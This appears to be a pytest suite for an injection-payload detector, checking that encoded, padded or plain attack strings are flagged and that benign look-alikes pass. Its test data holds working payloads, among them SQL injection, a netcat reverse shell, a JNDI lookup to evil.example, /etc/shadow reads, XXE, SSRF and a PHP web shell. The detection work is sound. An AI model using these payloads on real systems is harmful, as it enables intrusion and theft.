"""Each class knows what breaks out, and lets pass what only looks like it."""

import base64
from urllib.parse import quote

import pytest

from garrison.payload.classes.catalogue import CLASSES
from garrison.payload.judge import judge

ATTACKS: dict[str, tuple[str, ...]] = {
    "sql": (
        "' or '1'='1",
        "1 OR 1=1--",
        "x' AND 1=(SELECT COUNT(*) FROM tabname); --",
        "-1 UNION ALL SELECT 1,2,concat(user,0x3a,password) FROM mysql.user",
        "1'; DROP TABLE users--",
        "1;waitfor delay '0:0:5'--",
        "1/**/uNiOn/**/sELeCt/**/1,2,3",
        "'; exec master..xp_cmdshell 'ping 10.10.1.2'--",
        "1 AND extractvalue(1,concat(0x7e,version()))",
        "3) AND ELT(7=7,9) AND (2=2",
        "x'; /*a*/DROP/**/TABLE boats",
        "5 having 1=1",
        "x' or 1.e(1) or '2'='2",
        "(CASE WHEN 3=3 THEN 1 ELSE NULL END)",
        "8+order+by+2--",
        "1 un/**/ion sel/**/ect 2",
        "k\"\") or (\"\"a\"\"=\"\"a",
        "9||sleep(4)#",
        "1#q\nand#q\n7=7",
        "x' and ascii(lower(substring((select pin from boats where name = 'b'), 2, 1))) > '9",
    ),
    "nosql": ("x', $where: '2 == 2", '{"a": {"$gt": ""}}', "x'; return true; var b='", "0;return true",
              "{$nin: [1]}", "x' || this.pin.match(/9.*/) || 'a'=='b",
              "username[$ne]=a", "{'$where': 'sleep(100)'}", "db.users.find({})"),
    "command": ("k=tac;$k /etc/group", "a.example;t$@ac+/et$@c/pas$@swd", "no$()de 7", "x;\\n.shell tac a",
                "$(echo a$((3+4)))", "x|ifconfig", "%x('ls')", "{tac,/srv/list}",
                "; cat /etc/passwd", "$(whoami)", "| nc -e /bin/sh 10.0.0.1 4444", "() { :; }; /bin/id",
                "cat$IFS/etc/passwd", "bash -c 'tac /srv/list'", "find /srv -name list -exec tac {} +"),
    "path": ("WEB-INF/web.xml", "/.netrc", "file=/etc/shadow", "../../../../etc/passwd",
             "..\\..\\..\\windows\\win.ini", "/etc/shadow", "php://filter/read=convert.base64-encode"),
    "template": ("{% debug %}", "(#a=@java.lang.System@getenv())", "{{lipsum.__globals__}}", "${{<%[%'\"}}%\\",
                 "{{7*7}}", "${T(java.lang.Runtime).getRuntime().exec('id')}", "${jndi:ldap://evil.example/a}",
                 "<%= 7*7 %>"),
    "markup": (
        "<script>alert(1)</script>",
        '"><img src=x onerror=alert(1)>',
        "<svg/onload=confirm(1)>",
        "javascript:alert(document.cookie)",
        '<!--#exec cmd="ls" -->',
        '" onfocus=alert(1) autofocus="',
    ),
    "xml": ('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hosts">]><a>&b;</a>',),
    "request": ("/\\a.example.com", "///a.example.com", "https:a.example.com", "//b.example@a.example.com/",
                "http://169.254.169.254/latest/meta-data/", "gopher://127.0.0.1:6379/_INFO", "http://2130706433/"),
    "ldap": ("joe)(&(cn=*", "*))(|(mail=*",
             "*)(uid=*))(|(uid=*", "(&(uid=admin)(userPassword=*))"),
    "xpath": ("' or count(/*)=1 or 'a'='b", "x']/parent::node()/child::text()|//user['1"),
    "object": ('O:8:"stdClass":1:{s:1:"a";i:1;}', "!!python/object/apply:os.system ['id']", "__proto__[admin]",
               "class.module.classLoader.defaultAssertionStatus", "a.class['classLoader'].b"),
    "runtime": ("(sys.(te).m)('id');", "\"passthru\"(ls);", "[exec][0](ls);", 'filename="a.phtml"', "phar.readonly=0",
                "<?php system($_GET['c']); ?>", "$_SERVER['HTTP_HOST']", "allow_url_include=1"),
    "graphql": ('query { user(name: "a\' or 1=1--") { id } }',),
    "header": ("a\r\nSet-Cookie: session=1\r\nContent-Type: text/html", "a\nHTTP/1.1 200 OK\nContent-Length: 0"),
}  # fmt: skip

BENIGN = (
    "`git log --oneline {{path/to/file}}`",
    "```php\n<?php\n\nnamespace App\\Boats;\n```\nThat is all.",
    "import type { A } from '../../..';\ndeclare const b: A;\nexport default b;",
    "var a = require('a');\nvar b = require(\"../b\");\n",
    "You may write `edit_{user,team}` or {red,blue}",
    "The `cmd` (`Command Prompt`) interacts with `javascript:` links",
    "key: ${{ secrets.BOAT_KEY }}",
    "Dear ${user.name}, see {{password}}",
    "{% include boats.html %} shows {{ boat.name | upcase }} and {{ boat.sail }}",
    "See [the guide](../../../boats/guide.md)",
    "The script is in the\n```sh\ncurl -fsSL https://a.example/run | sh\n```\nblock",
    "`SELECT * FROM boats WHERE 1=1; DROP TABLE oars` is SQL",
    "alpha > 0 and beta > 0",
    "This stands as it came from",
    "From here the boats order by phone",
    "the boys' and girls' oars",
    "an oar (as opposed to a sail) from",
    "1950 or 1960",
    '"And when the boats are old" he said',
    r"Use \"Oars: Load\" and \"Sails: Inject\" for it",
    "use \u201coars\u201d or \u201csails\u201d like this",
    "SAIL_V1 = 0",
    '"+918#########",',
    "(1,2),(3,4)",
    "/* a */ b /* c */",
    "alert = confirm_alert(alert=alert)",
    "Fix `oars.apply is not a function` error (see `sail`)",
    "Adds `setTimeout` to ${name}`s list",
    '<p>a</p><img src="https://a.example/o.png" alt="o">',
    "/.well-known/openid-configuration",
    "/repos/a/b/contents/.github/workflows/c.yml",
    "Name\r\nPhone: 555",
    "/php/boats/page.php",
    "curl is a tool; wget too",
    "| tar | packs boats |",
    '<test name="oar" compare="less">',
    "/*! Boats v8 | (c) Oars */",
    "OARS*) boats=1;;",
    "alias oar='git status'",
    "Is it /a? Or /b? Or both?",
    'Rename "py" -> "python" everywhere',
    '<a href="https://example.com/">text</a>',
    "Attributes are named in the [command](/docs/command) reference",
    "From: Ada <ada@a.example>\nTo: Bob <bob@b.example>\nSubject: boats",
    "^(\\s*)(#if.*?(?<!\\\\))(\\n)",
    "http://localhost:3000/callback",
    "console.log(`${a.b}: ${JSON.stringify({c})}`);",
    "query Boats($first: Int, $where: BoatInput) { boats { id } }",
    "| id | name |\n| --- | --- |\n| 1 | a |",
    "parent::boot(); $next($request);",
    "println(\"Hello\")",
    "Grace O'Malley",
    "Dot's & Dave's Diner",
    "It's 5 o'clock; select a seat and drop by the table or call us",
    "Update the README and create table of contents",
    'Search for "salt" and "pepper" or "sugar"',
    "We deleted items from the cart, then union members insert coins",
    "Run `make test && make lint`, then open a pull request",
    "Use `curl` to query the `/metrics` endpoint",
    "See [the guide](../guides/replay.md) and ![logo](https://example.com/a.png)",
    "# Title\n\n* item one\n* item two\n\n```python\nfor x in range(10):\n    print(x)\n```\n",
    '<p>Hello <b>world</b>, see <a href="https://example.com/a?b=1" target="_blank">this</a></p>',
    '<img src="https://cdn.example.com/a.png" alt="figure" width="640">',
    '<table class="t"><tr><td>1</td><td>2</td></tr></table>',
    "query Menu($id: ID!) {\n  menu(id: $id) {\n    ...MenuDetails\n  }\n}\n",
    'def total(items: list[int]) -> int:\n    return sum(item for item in items if item > 0)\n',
    "const add = (a, b) => { return a + b; };\nexport default add;",
    "if (a && b || c) { i++; }",
    "price > 100 and rating >= 4",
    "AND, OR and NOT are operators",
    "C:\\Users\\ada\\Documents\\report.docx",
    "https://www.example.com/search?q=a+b&page=2#results",
    "Dear {{ customer.name }}, your order {{ order.id }} has shipped",
    "5 < 6 && 7 > 3",
    "$5,000 (five thousand) - 50% off!",
    "rock 'n' roll",
    "a@b.example; c@d.example",
    "2026-11-28T08:15:00Z",
    "jQuery and 960 grid",
    "Straße 5, 3. OG <rechts>",
    "SGVsbG8gd29ybGQsIHRoaXMgaXMgYSBncmVldGluZw==",
)  # fmt: skip

SLIGHT: dict[str, tuple[str, ...]] = {
    # a value that ends what it did not begin, or what a value would be compared with
    "sql": (
        ") as boats from", "` as `sails`, from", "from boats where oar = 3", "from `a`.`boats` limit",
        ") when 4 then", "substr??(", "or true", "and 8", "' or sail!", "\\'or'8", "\\\" and 1", "8or8=8",
        "42=42", "7 <=> 7", "8||this.oar", "oar::regclass", "like '%'", "x' and oar glob oar--",
        "and char(98)=0", "x' > '$.oar", "if(8=", "\u2019 or \u20188\u2019=\u20188", "k'--oar",
        "sleep(/*a'b*/4)", "8),(version(),8", "'^'", "'oar'<>'sail'", "' || oars.add(1) || '",
        "set @o = 0x73;prepare s from @o;execute s", "create user oar identified by 'sail'",
        "8'#qx\nunion#zz\nall#k\nselect#q\nconcat(1)", "8)\x07and\x079=8", "8/*o*/||/*o*/5/*o*/like/*o*/5",
        "'or'8=8", "8'+WAITFOR+DELAY+'0:0:4'",
    ),
    "command": (
        ";$o cat oars.txt", "ls;. rm -r /srv/boats", "$(`dir`)", "a* & perl -e 'print 8'", "nice -n 9 whoami",
        "*; ls -l /srv/boats/", "=cmd|'/C calc'!A8", "tac /e??/??sts", "/bin$o/bash$o 8", "'() { oar; }",
    ),
    "path": ("d:\\wamp\\boats", "C:\\Program Files\\Apache Group\\logs\\a.log", "/.oarlock/rules.json",
             "..../0x2f..../0x2fboats"),
    "markup": (
        "x';oar(sail, 8)//", "o=alert,o(8)", "onhashchange=setTimeout", "throw{},onerror=oar",
        "Function`o${sail}```", "var{o:onerror}={o:alert};throw 8",
        "window[['o'][0]+'ar'](8)", "<\u202escript>oar", "<img src=j\na\nv\na\ns\nc\nr\ni\np\nt:oar>", "<x onoar=",
        "<input formaction=//a.example>",
        "<object data=//a.example/o>", "<object type=a><param name=movie value=//a.example>", '<img src="//a.example/?',
        '<b style="\\63\\6f\\6c\\6f\\72:red">', "<style>@import'oar'", "+ADw-b+AD4-oar", "\\x3c", "-->",
        "document/*o*/./*r*/cookie", "/ev/.source+/al/.source", "[].constructor.constructor('o')", "'><b>oar",
        "x='jav'+'ascr'", '"+onoar="sail(8)', "<b/style=\\c\\o\\l:8>", "data:text/html;charset=x;base64,b2Fyb2Fy",
    ),
    "xml": ("%oars;", "<!ELEMENT boat (oar)>"),
    "request": ("http://2001:db8:8::9/oar", "10.8.9.1.nip.io", "http://0x42.0x0000066.0x7.0x93/"),
    "header": ("\r\noar:sail", "/%250aoar:sail"),
    "template": ("{% csrf_token %} oar",),
    "runtime": ('filename="boat.phpt"',),
}  # fmt: skip

ALL = [(kind, text) for kind, texts in ATTACKS.items() for text in texts]
SMALL = [(kind, text) for kind, texts in SLIGHT.items() for text in texts]


@pytest.mark.parametrize(("kind", "text"), ALL)
def test_what_breaks_out_is_found(kind: str, text: str) -> None:
    assert judge([text]), kind


@pytest.mark.parametrize(("kind", "text"), SMALL)
def test_what_is_slight_is_found(kind: str, text: str) -> None:
    assert kind in {found.kind for found in judge([text])}


@pytest.mark.parametrize("kind", ATTACKS)
def test_each_class_names_its_own(kind: str) -> None:
    kinds = {found.kind for text in ATTACKS[kind] for found in judge([text])}
    assert kind in kinds


@pytest.mark.parametrize("text", BENIGN)
def test_what_only_looks_like_it_passes(text: str) -> None:
    assert judge([text]) == ()


@pytest.mark.parametrize(("kind", "text"), ALL)
def test_percent_encoding_hides_nothing(kind: str, text: str) -> None:
    assert judge([quote(text, safe="")]), kind
    assert judge([quote(quote(text, safe=""), safe="")]), kind


@pytest.mark.parametrize("text", [text for _, text in ALL if len(text) > 16])
def test_base64_hides_nothing(text: str) -> None:
    assert judge([base64.b64encode(text.encode()).decode()])


@pytest.mark.parametrize(
    "text", ["<script>alert(1)</script>", "../../../../etc/passwd", "1 UNION SELECT 1,2 FROM users"]
)
def test_padding_hides_nothing(text: str) -> None:
    padding = "The quick brown fox jumps over the lazy dog. " * 1500
    (found,) = judge([f"{padding}{text} {padding}"])
    assert text[:6] in found.text[found.place - 60 : found.place + 60]


def test_each_text_is_found_at_most_once_and_by_its_place() -> None:
    found = judge(["plain", "<script>alert(1)</script>", "more", "../../../etc/passwd"])
    assert [each.index for each in found] == [1, 3]


def test_what_was_undone_is_evidence() -> None:
    (found,) = judge(["%253Cscript%253Ealert(1)%253C/script%253E"])
    assert found.steps == ("percent", "percent")


def test_ids_are_unique() -> None:
    assert len({each.id for each in CLASSES}) == len(CLASSES)
    for each in CLASSES:
        assert len({sign.name for sign in each.signs}) == len(each.signs), each.id
